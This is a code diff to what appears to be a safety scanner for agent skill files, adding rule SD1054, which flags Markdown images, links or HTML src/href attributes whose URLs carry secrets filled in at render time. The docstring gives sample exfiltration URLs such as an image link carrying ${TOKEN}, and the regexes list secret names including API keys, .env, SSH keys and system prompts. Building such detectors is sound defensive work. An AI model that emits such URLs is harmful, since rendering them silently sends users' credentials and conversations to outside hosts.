@@ -184,6 +184,54 @@ def command_hits(
     if _SENDER_GATE.opens(present) and _CREDENTIAL_GATE.opens(present):
         yield from _exfiltration(text, (start, end), where=where, window=window)
     yield from secret_hits(text, start, end, where, present)
+    if _URL_GATE.opens(present):
+        yield from _secret_urls(text, start, end, where)
+
+
+#: A Markdown image or link, or an HTML ``src``/``href``, whose URL is filled in at run time.
+_URL_GATE = Gate(("](http", "src=", "href="), also=("${", "{{", "$(", "%", "<", "[", "$"))
+_LINKED_URL = re.compile(
+    r"!?\[[^\]\n]*\]\(\s*(?P<md>https?://(?:[^\s()<>\[\]]|<[^<>\n]{1,60}>|\[[^\[\]\n]{1,60}\]"
+    r"|\$\([^()\n]{1,80}\))+)|(?:src|href)\s*=\s*[\"']?(?P<html>https?://[^\s\"'>]+)",
+    _I,
+)
+_FILLED = re.compile(
+    r"\$\{?(?P<var>[A-Za-z_]\w*)\}?|\{\{\s*(?P<tpl>[^{}]{1,60}?)\s*\}\}|%(?P<win>[A-Za-z_]\w*)%"
+    r"|<(?P<angle>[^<>]{2,60})>|\[(?P<square>[^\[\]]{2,60})\]|\$\((?P<sub>[^()]{1,80})\)",
+)
+_SECRET_WORDS = re.compile(
+    r"token|secret|passw|api[_ -]?key|credential|\.env\b|\benv\b|environ|ssh|cookie|"
+    r"private[_ -]?key|session|auth|base64|conversation|chat history|system prompt|printenv",
+    _I,
+)
+
+
+def _secret_urls(text: str, start: int, end: int, where: str) -> Iterator[Hit]:
+    """SD1054: a Markdown image or link (or an HTML ``src``/``href``) whose URL carries a
+    secret filled in when it is rendered or followed: ``![](https://x/?d=${TOKEN})``,
+    ``{{OPENAI_API_KEY}}``, ``<base64 of ~/.env>``, ``$(env | base64)``."""
+    from skilldeck.engine.safety._flow import placeholder_host, url_host  # noqa: PLC0415
+
+    for match in _LINKED_URL.finditer(text, start, end):
+        url = match.group("md") or match.group("html")
+        host = url_host(url)
+        if host is None or placeholder_host(host):
+            continue
+        rest = url[url.find(host) + len(host) :]
+        for filled in _FILLED.finditer(rest):
+            name = next(g for g in filled.groups() if g is not None)
+            if _SECRET_WORDS.search(name) is None:
+                continue
+            yield Hit(
+                "SD1054",
+                match.start(),
+                match.end(),
+                (("where", where), ("kind", "an image" if match.group().startswith("!") else
+                                    "a link"),
+                 ("what", shorten(filled.group(), 60)), ("host", host),
+                 ("url", shorten(url, 100))),
+            )  # fmt: skip
+            break
 
 
 _BROWSER = re.compile(r"<script|javascript:|\bon[a-z]+\s*=", _I)
